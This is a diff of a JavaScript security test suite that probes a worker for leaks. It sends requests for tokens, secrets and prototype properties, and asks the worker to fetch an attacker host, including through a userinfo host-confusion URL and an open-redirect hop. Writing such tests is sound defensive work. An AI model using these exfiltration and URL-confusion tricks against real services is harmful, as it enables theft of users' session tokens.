@@ -12,8 +12,9 @@ const WORDS = ["token", "getToken", "session", "state", "secrets", "export", "du
 const INHERITED = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "then"];
 
 /** Everything that an honest worker says no to, or nothing. */
-async function pester({ ask }, { attacker }) {
-  for (const type of [...WORDS, ...INHERITED]) ask({ type });
+async function pester({ ask, post }, { attacker }) {
+  // Not asked one by one, for the app's renewals that would go with it are more than a careless session survives.
+  [...WORDS, ...INHERITED].forEach((type, i) => post({ type, id: 900_000 + i }));
   const hop = `/api/hop?status=307&to=${encodeURIComponent(attacker)}`;
   const targets = [attacker, `http://${location.host}@${new URL(attacker).host}`, "/api/token/refresh", hop];
   const calls = targets.map((url) => ask({ type: "fetch", url: new URL(url, location.href).href, init: INIT, body: null }));
@@ -129,6 +130,7 @@ export default [
     after: "token no no no",
     ...ASKED,
     async run(kit) {
+      await kit.signedIn;
       const { ask, post } = connect(kit);
       await pester({ ask, post }, kit);
       post({ type: "close" });
@@ -136,6 +138,8 @@ export default [
       await ask({ ...configure(), version: 2 });
       await ask({ ...configure(), base: kit.attacker });
       await pester({ ask, post }, kit);
+      // A connection takes its time, and so do answers on it.
+      await kit.worked;
     },
   },
   {
